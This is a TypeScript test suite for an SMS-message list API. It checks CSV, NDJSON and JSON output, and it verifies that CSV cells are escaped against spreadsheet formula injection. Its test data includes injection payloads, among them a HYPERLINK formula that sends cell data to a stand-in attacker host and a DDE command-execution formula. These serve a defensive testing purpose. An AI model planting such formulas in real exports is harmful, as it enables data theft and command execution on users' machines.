import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvLine } from '../../src/http/csv.ts';
import { parseCsv, plainCell } from '../support/csv.ts';
import { expectProblem } from '../support/http.ts';
import { insertOriginalRow } from '../support/rows.ts';
import { startTestService, type TestService } from '../support/service.ts';

let service: TestService;

const injections = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+44',
  '-2+3',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  '"=1+1"',
  'quiet;=1+1',
  ' =1+1',
  'two\r\nlines, a comma and "quotes"',
  '日本語 🙂 é',
];

beforeAll(async () => {
  service = await startTestService();
  for (const [n, content] of injections.entries()) {
    await insertOriginalRow(service, {
      trustomer_code: 'csv',
      content,
      created: `2026-01-01 10:00:${10 + n}`,
      status: null,
    });
  }
});
afterAll(() => service.stop());

const list = (accept: string, query = '', trustomer = 'csv') =>
  service.call(`/dhos/v1/sms${query}`, { headers: { 'x-trustomer': trustomer, 'x-product': 'gdm', accept } });

describe('The list as CSV', () => {
  test('has a header row, a line with CRLF for each message, and a file name', async () => {
    const answer = await list('text/csv');
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="messages.csv"');
    expect(answer.headers.get('vary')).toBe('accept');
    const [header, ...lines] = parseCsv(answer.text);
    expect(header?.slice(0, 3)).toEqual(['uuid', 'created', 'created_by']);
    expect(lines).toHaveLength(injections.length);
    for (const line of lines) expect(line).toHaveLength(header?.length ?? 0);
  });

  test('read back, says what the JSON says', async () => {
    const [header = [], ...lines] = parseCsv((await list('text/csv')).text);
    const messages = lines.map((line) =>
      Object.fromEntries(line.map((cell, n) => [header[n], plainCell(cell)]).filter(([, value]) => value !== '')),
    );
    expect(messages).toEqual((await list('application/json')).json);
  });

  test('no cell begins as a formula does, phone numbers included', async () => {
    const cells = parseCsv((await list('text/csv')).text).flat();
    expect(cells.filter((cell) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell))).toEqual([]);
    expect(cells).toContain("'+447700900123");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("''=1+1");
  });

  test('is the header row alone where there is nothing', async () => {
    expect(parseCsv((await list('text/csv', '', 'nobody')).text)).toHaveLength(1);
  });

  test('has pages, filters and an ETag as the list has', async () => {
    const answer = await list('text/csv', '?limit=3');
    expect(parseCsv(answer.text)).toHaveLength(4);
    expect(answer.headers.get('etag')).toMatch(/^"/);
    const next = /<(.*)>/.exec(answer.headers.get('link') ?? '')?.[1] ?? '';
    expect(parseCsv((await list('text/csv', next.replace('/dhos/v1/sms', ''))).text)).toHaveLength(4);
    expect(parseCsv((await list('text/csv', '?status=sent')).text)).toHaveLength(1);
  });

  test('whatever the texts, a line read back gives them again and none is a formula', () => {
    const nasty = fc.string({ unit: fc.constantFrom(...'=+-@\'",;\r\n\t ab'), maxLength: 6 });
    fc.assert(
      fc.property(fc.array(fc.oneof(nasty, fc.string({ unit: 'grapheme' })), { minLength: 2 }), (cells) => {
        const [line, ...more] = parseCsv(csvLine(cells));
        expect(more).toEqual([]);
        expect(line?.map(plainCell)).toEqual(cells);
        expect(line?.some((cell) => /^[=+\-@\t\r\n]/.test(cell))).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('The list as NDJSON', () => {
  test('has a message on each line and no line more', async () => {
    const answer = await list('application/x-ndjson');
    expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(answer.text.endsWith('}\n')).toBe(true);
    const messages = answer.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(messages).toEqual((await list('application/json')).json);
  });

  test('is empty where there is nothing', async () => {
    const answer = await list('application/x-ndjson', '', 'nobody');
    expect([answer.status, answer.text]).toEqual([200, '']);
  });
});

describe('The list in another form', () => {
  test('is not acceptable: 406', async () => {
    const answer = await list('text/html');
    expectProblem(answer, 406, 'Accept: this address has application/json, text/csv, application/x-ndjson.');
    expect(answer.headers.has('content-disposition')).toBe(false);
  });

  test('JSON is the default and stays byte for byte what it was', async () => {
    const { uuid } = await insertOriginalRow(service, {
      trustomer_code: 'bytes',
      created: '2026-01-01 10:00',
      modified: '2026-01-01 10:00:01.5',
      twilio_sid: 'SMbytes',
    });
    const answer = await list('*/*', '', 'bytes');
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(answer.headers.has('content-disposition')).toBe(false);
    expect(answer.text).toBe(
      '[{"content":"Inserted by SQL.","created":"2026-01-01T10:00:00.000Z","created_by":"static_message_bot",' +
        '"modified":"2026-01-01T10:00:01.500Z","modified_by":"static_message_bot","product_name":"gdm","receiver":"+447700900123",' +
        `"sender":"+447700900001","status":"sent","trustomer_code":"bytes","twilio_sid":"SMbytes","uuid":"${uuid}"}]`,
    );
  });
});
